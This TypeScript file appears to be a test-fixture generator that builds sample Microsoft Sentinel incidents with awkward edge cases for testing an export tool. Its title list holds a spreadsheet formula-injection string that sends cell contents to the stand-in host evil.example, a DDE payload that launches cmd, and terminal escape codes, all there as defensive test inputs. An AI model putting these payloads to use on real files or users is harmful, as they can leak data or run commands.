import type { JsonObject } from '../../../src/ground/json.ts';
import type { IncidentDetail, IncidentSource } from './incidents.ts';

export interface SampleOptions {
  readonly count: number;
  /** Resource id of the workspace. */
  readonly workspaceId: string;
  /** Creation of the first, ISO 8601; each further one is a minute later. Default: 2026-01-01. */
  readonly from?: string;
}

const namePrefix = '73e01a99-5cd7-4139-a149-';

/** The name of the nth incident. */
export function sampleName(index: number): string {
  return `${namePrefix}${index.toString(16).padStart(12, '0')}`;
}

/** The name of the nth analytics rule. */
export function sampleRuleName(index: number): string {
  return `fab3d2d4-747f-46a7-8ef0-${index.toString(16).padStart(12, '0')}`;
}

/**
 * Incidents as Sentinel's API has been seen to give them, made when they are asked for, so that there can be 100,000:
 * some without description, with an owner all null, with the label `Redirected` of a merged one, with a capital letter in
 * the id; and titles with what spreadsheets and terminals take for more than text.
 */
export function sampleIncidents({ count, workspaceId, from = '2026-01-01T00:00:00Z' }: SampleOptions): IncidentSource {
  const startMs = Date.parse(from);
  const at = (index: number): JsonObject => sampleIncident(index, workspaceId, startMs);
  return {
    count,
    at,
    find: (name) => {
      const index = Number.parseInt(name.toLowerCase().replace(namePrefix, ''), 16);
      return index < count && sampleName(index) === name.toLowerCase() ? at(index) : null;
    },
  };
}

const titles: readonly string[] = [
  'Access granted without approval to prod-db',
  'Grantee isn\'t the requester, "break glass"; see INC-4411',
  '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
  'First access of zoë@example.com to Müller’s server, データベース',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  'Many requests in a short time',
  '-2+3, and more',
  'Title with \u001b[31mcolour\u001b[0m and a bell\u0007',
];
const severities = ['High', 'Medium', 'Low', 'Informational'];
const states = ['New', 'Active', 'Closed'];

function pick(list: readonly string[], index: number): string {
  return list[index % list.length] ?? '';
}

function sampleIncident(index: number, workspaceId: string, startMs: number): JsonObject {
  const name = sampleName(index);
  const provider = `${workspaceId}/providers/Microsoft.SecurityInsights`;
  return {
    id: `${provider}/${index % 5 === 0 ? 'Incidents' : 'incidents'}/${name}`,
    name,
    type: `Microsoft.SecurityInsights/${index % 5 === 0 ? 'Incidents' : 'incidents'}`,
    etag: `"0300bf09-0000-0000-0000-${index.toString(16).padStart(12, '0')}"`,
    properties: { ...times(index, startMs), ...words(index, provider), ...closing(index), ...owner(index) },
  };
}

/** With seven decimals, as Azure writes times. */
function time(ms: number, index: number): string {
  return `${new Date(ms).toISOString().slice(0, 19)}.${String((index * 37) % 10_000_000).padStart(7, '0')}Z`;
}

function times(index: number, startMs: number): JsonObject {
  const created = startMs + index * 60_000;
  return {
    createdTimeUtc: time(created, index),
    lastModifiedTimeUtc: time(created + (index % 3) * 3_600_000, index),
    firstActivityTimeUtc: time(created - 600_000, index),
    lastActivityTimeUtc: time(created - 300_000, index),
  };
}

function words(index: number, provider: string): JsonObject {
  const isForeign = index % 19 === 0;
  return {
    title: pick(titles, index),
    ...(index % 7 !== 0 && { description: `Line one of ${index}\nline two, with "quotes"; and a ; or two` }),
    severity: pick(severities, index),
    incidentUrl: `https://portal.azure.com/#asset/Microsoft_Azure_Security_Insights/Incident${provider}/Incidents/${sampleName(index)}`,
    incidentNumber: index + 1,
    labels: labels(index),
    providerName: isForeign ? 'Microsoft XDR' : 'Azure Sentinel',
    providerIncidentId: String(index + 1),
    relatedAnalyticRuleIds: isForeign ? [] : [`${provider}/alertRules/${sampleRuleName(index % 4)}`],
    additionalData: {
      alertsCount: isForeign ? 0 : 1 + (index % 3),
      bookmarksCount: 0,
      commentsCount: index % 4,
      alertProductNames: isForeign ? [] : ['Azure Sentinel'],
      tactics: index % 2 === 0 ? ['PrivilegeEscalation', 'Persistence'] : [],
      ...(index % 2 === 0 && { techniques: ['T1078', 'T1098'] }),
      ...(isForeign && { providerIncidentUrl: `https://security.microsoft.com/incidents/${index + 1}` }),
    },
  };
}

function labels(index: number): JsonObject[] {
  const own = index % 6 === 0 ? [{ labelName: "team's; prod", labelType: 'User' }] : [];
  return index % 13 === 0 ? [...own, { labelName: 'Redirected', labelType: 'AutoAssigned' }] : own;
}

function closing(index: number): JsonObject {
  const status = index % 13 === 0 ? 'Closed' : pick(states, index);
  if (status !== 'Closed') return { status };
  if (index % 13 === 0) return { status, classification: 'Undetermined' };
  return {
    status,
    classification: 'BenignPositive',
    classificationReason: 'SuspiciousButExpected',
    classificationComment: 'Agreed with the owner\r\n(see the ticket)',
  };
}

function owner(index: number): JsonObject {
  if (index % 11 === 0) {
    return { owner: { objectId: null, email: null, assignedTo: null, userPrincipalName: null } };
  }
  return {
    owner: {
      objectId: '2046feea-040d-4a46-9e2b-91c2941bfa70',
      email: 'jo.doe@example.com',
      assignedTo: 'Jo Doe',
      userPrincipalName: 'jo@example.com',
      ownerType: index % 2 === 0 ? 'User' : 'Unknown',
    },
  };
}

/** What belongs to such an incident, as many as its counts say. */
export function sampleDetails(source: IncidentSource): (name: string) => IncidentDetail {
  return (name) => {
    const index = Number(Object(source.find(name)?.['properties'])['incidentNumber'] ?? 1) - 1;
    return {
      comments: Array.from({ length: index % 4 }, (_, nth) => comment(index, nth)),
      alerts: index % 19 === 0 ? [] : Array.from({ length: 1 + (index % 3) }, (_, nth) => alert(index, nth)),
      entities: index % 19 === 0 ? [] : entities(index),
    };
  };
}

function comment(index: number, nth: number): JsonObject {
  return {
    name: sampleName(index * 100 + nth),
    type: 'Microsoft.SecurityInsights/incidents/comments',
    properties: {
      message:
        nth === 0
          ? '<p>Asked the <b>owner</b>: it&#39;s &lt;fine&gt;<br>second line</p>'
          : `Comment ${nth} of ${index}`,
      createdTimeUtc: '2026-01-02T13:15:30.1234567Z',
      author: { name: nth === 1 ? null : 'Jo Doe', email: 'jo.doe@example.com', userPrincipalName: 'jo@example.com' },
    },
  };
}

function alert(index: number, nth: number): JsonObject {
  return {
    name: sampleName(index * 100 + nth),
    type: 'Microsoft.SecurityInsights/Entities',
    kind: 'SecurityAlert',
    properties: {
      alertDisplayName: pick(titles, index),
      severity: pick(severities, index),
      productName: 'Azure Sentinel',
      timeGenerated: '2026-01-02T12:00:00.7654321Z',
    },
  };
}

function entities(index: number): JsonObject[] {
  const entity = (kind: string, properties: JsonObject): JsonObject => ({ name: sampleName(index), kind, properties });
  return [
    entity('Account', { friendlyName: 'zoe', accountName: 'zoe', upnSuffix: 'example.com' }),
    entity('Ip', { address: `192.0.2.${index % 250}` }),
  ];
}
